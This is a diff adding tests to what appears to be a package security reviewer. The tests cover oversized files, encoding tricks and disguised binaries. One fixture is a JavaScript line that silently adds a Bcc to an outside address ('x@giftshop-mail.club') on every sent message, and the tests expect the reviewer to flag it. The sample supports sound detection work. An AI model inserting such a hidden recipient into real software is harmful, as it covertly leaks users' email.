@@ -35,6 +35,53 @@ describe("hostile shapes of package content", () => {
     const f = r.findings.find((x) => x.rule === "unreviewable" && x.file === "a.js")!;
     assert.match(f.message, /over the 1000000-byte text limit changed \(sha256 [0-9a-f]{16}…\)/);
     assert.equal(r.risk, "medium");
+    // Code nobody read makes the analysis incomplete (it said complete before: a padded index.js passed).
+    assert.equal(r.complete, false);
+    const added = review(
+      snap("1", {}),
+      snap("2", { "a.js": fiveMb }, withLimits({ maxTextFileBytes: 1_000_000 })),
+      {
+        limits: withLimits({ maxTextFileBytes: 1_000_000 }),
+      },
+    );
+    assert.equal(added.complete, false);
+    // A data file nobody loads as code stays a non-blocking note.
+    const doc = review(
+      snap("1", {}),
+      snap("2", { "big.txt": fiveMb }, withLimits({ maxTextFileBytes: 1_000_000 })),
+      {
+        limits: withLimits({ maxTextFileBytes: 1_000_000 }),
+      },
+    );
+    assert.equal(doc.complete, true);
+  });
+
+  const BCC = 'const m = { To: to, Bcc: "x@giftshop-mail.club" };\nsend(m);\n';
+  for (const [label, bytes] of [
+    [
+      "one Latin-1 byte in a comment",
+      Buffer.concat([Buffer.from("// caf"), Buffer.from([0xe9]), Buffer.from(`\n${BCC}`)]),
+    ],
+    ["one NUL byte in a string", Buffer.from(`const z = "\u0000";\n${BCC}`.replace("\\u0000", "\0"))],
+  ] as const) {
+    it(`code with ${label} is still reviewed as code, and the Bcc line is found`, () => {
+      const r = review(snap("1", { "index.js": "send({});\n" }), snap("2", { "index.js": bytes }), {
+        limits: withLimits(),
+      });
+      assert.equal(r.files.binary, 0);
+      assert.ok(
+        r.findings.some((f) => f.rule === "hidden-recipient" && f.file === "index.js" && f.line === 2),
+      );
+      assert.equal(r.risk, "critical");
+      assert.ok(r.findings.some((f) => f.rule === "unreviewable" && /invalid UTF-8 or NUL/.test(f.message)));
+    });
+  }
+
+  it("an executable image named .js stays binary (Node would not run it as code)", () => {
+    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(64)]);
+    const r = review(snap("1", {}), snap("2", { "index.js": elf }), { limits: withLimits() });
+    assert.equal(r.files.binary + r.files.added, 1);
+    assert.ok(r.findings.some((f) => f.rule === "binary-added"));
   });
 
   it("past the package's changed-text budget, files are listed unread and the review is incomplete", () => {
